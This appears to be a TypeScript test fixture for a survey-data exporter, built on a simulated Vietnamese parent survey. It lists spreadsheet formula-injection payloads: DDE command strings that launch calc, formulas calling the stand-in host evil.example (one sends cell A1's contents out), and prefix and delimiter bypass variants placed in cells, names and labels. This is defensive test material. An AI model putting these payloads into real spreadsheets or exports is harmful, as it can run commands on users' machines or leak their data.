import type { About, Table } from '../../server/export/table.ts'

export const ABOUT: About = {
  slug: 'so-lieu-2021-0123abcd',
  title: 'Khảo sát ý kiến cha mẹ học sinh năm 2021',
  authority: 'Sở Giáo dục và Đào tạo',
  year: 2021,
  place: 'Tỉnh Sóc Trăng',
  hash: '0'.repeat(64),
  weighting: 'design-nonresponse/1, 2021-11-20',
  simulated: true,
}

/** Formulas of the published lists of payloads, as text that somebody typed. */
export const PAYLOADS = [
  '=1+1',
  "=cmd|'/C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!D2",
  '=HYPERLINK("http://evil.example?x="&A1,"mở")',
  '=WEBSERVICE("http://evil.example")',
  '=IMPORTXML(CONCAT("http://evil.example",A1),"//a")',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '＝1+1',
  '＠SUM(1)',
  'tốt;=1+1',
  'tốt,=1+1',
  'tốt\n=1+1',
  'tốt;"=1+1',
  'tốt\t@x',
  '";=1+1;"',
  '=1+1";=2+2',
  '%0A-3+3+cmd|x!A1',
  '=-1',
  '--1',
]

/** Texts in cells, labels and names; numbers with both kinds of missing answers. */
export const TABLE: Table = {
  columns: [
    { name: 'school', label: 'Trường', kind: 'text', measure: 'nominal', labels: [] },
    { name: '=1+1', label: '=2+2', kind: 'text', measure: 'nominal', labels: [] },
    {
      name: 'A1',
      label: 'Trường có đủ nước sạch cho học sinh uống hằng ngày – "sạch"; đủ',
      kind: 'number',
      measure: 'ordinal',
      labels: [
        { value: 1, label: 'Rất không hài lòng' },
        { value: 5, label: '=Rất hài lòng' },
      ],
    },
    { name: 'weight', label: 'Trọng số', kind: 'number', measure: 'scale', labels: [] },
    { name: 'with', label: 'ភាសាខ្មែរ', kind: 'text', measure: 'nominal', labels: [] },
    { name: 'stratum', label: 'Tầng', kind: 'text', measure: 'nominal', labels: [] },
  ],
  rows: PAYLOADS.map((text, row) => [
    `S${row}`,
    text,
    row === 1 ? 'NK' : row === 2 ? null : 1 + (row % 5),
    1 + row / 7,
    'ឆ្នាំ',
    `T${row % 2}`,
  ]),
}
